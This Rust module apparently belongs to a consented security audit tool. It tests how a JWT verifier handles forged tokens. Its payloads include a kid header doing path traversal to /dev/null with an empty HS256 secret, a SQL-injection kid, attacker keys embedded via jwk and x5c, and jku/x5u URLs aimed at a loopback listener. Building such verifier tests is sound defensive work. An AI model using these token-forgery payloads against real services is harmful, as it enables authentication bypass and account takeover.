//! Headers that tell the verifier which key to take, or what it has to understand.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::EncodingKey;
use serde_json::{Value, json};

use super::keys::Own;
use super::listener::Listener;
use super::victim::{Victim, accepted, forge, forged, never_accepted, no_jwt};
use crate::audit::check::{Judgement, Level};
use crate::audit::exchange::{Facts, Purpose};
use crate::audit::forged::success;
use crate::audit::probe::{Consent, Probe};
use crate::audit::prober::Prober;

pub const KID: Purpose = Purpose::Own("jwt-kid");
pub const EMBEDDED: Purpose = Purpose::Own("jwt-jwk");
pub const POINTED: Purpose = Purpose::Own("jwt-jku");
pub const CHAIN: Purpose = Purpose::Own("jwt-x5c");
pub const CRITICAL: Purpose = Purpose::Own("jwt-crit");

/// The end of a variant whose address was asked for.
pub const FETCHED: &str = "our listener was asked for it";

pub static KID_INJECT: Probe = Probe {
    name: "jwt-kid",
    consent: Consent::Guarded,
    about: "the genuine claims under HS256 with an empty secret and a kid that names /dev/null (by traversal and absolute), a list, 2 KiB; a quote for SQL \
            only where `guarded = true`",
    most: 40,
    lacks: no_jwt,
    send: |prober| {
        Box::pin(forge(prober, async |prober, victim| {
            let stack = prober.input.plan.stacks.get(prober.input.stack.0);
            let mut variants = vec![
                ("kid that climbs to /dev/null", json!("../../../../../../../../dev/null"), ""),
                ("kid /dev/null", json!("/dev/null"), ""),
                ("kid that is a list", json!(["shakedown"]), ""),
                ("kid of 2 KiB", json!("k".repeat(2048)), ""),
            ];
            if stack.is_some_and(|stack| stack.guarded_audit) {
                variants.push((
                    "kid with a quote for SQL",
                    json!("x' UNION SELECT 'shakedown'-- "),
                    "shakedown",
                ));
            }
            for (what, kid, secret) in variants {
                let key = EncodingKey::from_secret(secret.as_bytes());
                let Some(token) = victim.signed(&[("alg", json!("HS256")), ("kid", kid)], &key) else {
                    continue;
                };
                victim.try_token(prober, KID, what, &token).await;
            }
        }))
    },
};

pub fn kid(facts: &Facts) -> Judgement {
    forged(facts, KID, |exchange, answer| {
        let crashed = || {
            (answer.status >= 500)
                .then(|| (Level::Fail, format!("{} was answered {}", exchange.site.variant, answer.status)))
        };
        accepted(exchange, answer).or_else(crashed)
    })
}

pub static JWK_EMBED: Probe = Probe {
    name: "jwt-jwk",
    consent: Consent::Active,
    about: "the genuine claims signed by a key of our own, with that key in the header's jwk",
    most: 20,
    lacks: no_jwt,
    send: |prober| {
        Box::pin(forge(prober, async |prober, victim| {
            let Some(own) = Own::public(&victim.token) else { return };
            let Some(jwk) = own.jwk() else { return };
            signed_by(prober, victim, &own, EMBEDDED, "own key in jwk", &[("jwk", jwk)]).await;
        }))
    },
};

async fn signed_by(
    prober: &mut Prober<'_>,
    victim: &Victim<'_>,
    own: &Own,
    purpose: Purpose,
    what: &str,
    members: &[(&str, Value)],
) {
    let Some(name) = own.name() else { return };
    let mut members = members.to_vec();
    members.push(("alg", json!(name)));
    if let Some(token) = victim.signed(&members, &own.key) {
        victim.try_token(prober, purpose, what, &token).await;
    }
}

pub fn embedded(facts: &Facts) -> Judgement {
    never_accepted(facts, EMBEDDED)
}

pub static X5C: Probe = Probe {
    name: "jwt-x5c",
    consent: Consent::Active,
    about: "the genuine claims signed by a key of our own, with its self-signed certificate in the header's x5c",
    most: 20,
    lacks: no_jwt,
    send: |prober| {
        Box::pin(forge(prober, async |prober, victim| {
            let Some(own) = Own::public(&victim.token) else { return };
            let Some(der) = own.certificate() else { return };
            let chain = json!([STANDARD.encode(der)]);
            signed_by(prober, victim, &own, CHAIN, "own certificate in x5c", &[("x5c", chain)]).await;
        }))
    },
};

pub fn chain(facts: &Facts) -> Judgement {
    never_accepted(facts, CHAIN)
}

pub static JKU: Probe = Probe {
    name: "jwt-jku",
    consent: Consent::Guarded,
    about: "the genuine claims signed by a key of our own, with jku and x5u that lead to a listener of our own on loopback; only to a stack on loopback",
    most: 30,
    lacks: no_jwt,
    send: |prober| {
        Box::pin(async move {
            if !prober.input.endpoint.address.ip().is_loopback() {
                return prober.refuse(
                    "jku and x5u lead to a listener on this machine, and the stack is on another one",
                );
            }
            forge(prober, async |prober, victim| {
                let Some(own) = Own::public(&victim.token) else { return };
                let (Some(jwk), Some(der)) = (own.jwk(), own.certificate()) else { return };
                let Some(name) = own.name() else { return };
                let listener = match Listener::start(&jwk, &der).await {
                    Ok(listener) => listener,
                    Err(error) => return prober.refuse(format!("no listener on loopback: {error}")),
                };
                for (member, url) in [("jku", listener.key_set()), ("x5u", listener.certificate())] {
                    let members = [("alg", json!(name)), (member, json!(url)), ("kid", json!("shakedown"))];
                    let Some(request) =
                        victim.signed(&members, &own.key).and_then(|token| victim.target.with_token(&token))
                    else {
                        continue;
                    };
                    let before = listener.hits();
                    let site = victim.target.site(&format!("{member} to our listener"), false);
                    let Some(mut exchange) = prober.ask(POINTED, site, request).await else { return };
                    if listener.hits() > before {
                        exchange.site.variant = format!("{member}: {FETCHED}");
                    }
                    prober.keep(exchange);
                }
            })
            .await;
        })
    },
};

pub fn pointed(facts: &Facts) -> Judgement {
    forged(facts, POINTED, |exchange, answer| {
        let fetched = exchange.site.variant.ends_with(FETCHED);
        let what = exchange.site.variant.split([':', ' ']).next().unwrap_or_default();
        match (success(answer), fetched) {
            (true, _) => Some((Level::Fail, format!("accepted: our own key, which {what} leads to"))),
            (false, true) => Some((Level::Fail, format!("the stack fetched the address in {what}"))),
            _ => None,
        }
    })
}

pub static CRIT: Probe = Probe {
    name: "jwt-crit",
    consent: Consent::Active,
    about: "the genuine claims signed with the scenario's key, with a critical header that nobody understands",
    most: 20,
    lacks: no_jwt,
    send: |prober| {
        Box::pin(forge(prober, async |prober, victim| {
            let Some(key) = victim.key(prober).await else { return };
            let members = [("crit", json!(["shakedown"])), ("shakedown", json!(true))];
            let Some(token) = victim.signed(&members, &key) else { return };
            victim.try_token(prober, CRITICAL, "a critical header that nobody understands", &token).await;
        }))
    },
};

pub fn critical(facts: &Facts) -> Judgement {
    forged(facts, CRITICAL, |exchange, answer| {
        success(answer).then(|| (Level::Warn, format!("accepted: {}", exchange.site.variant)))
    })
}
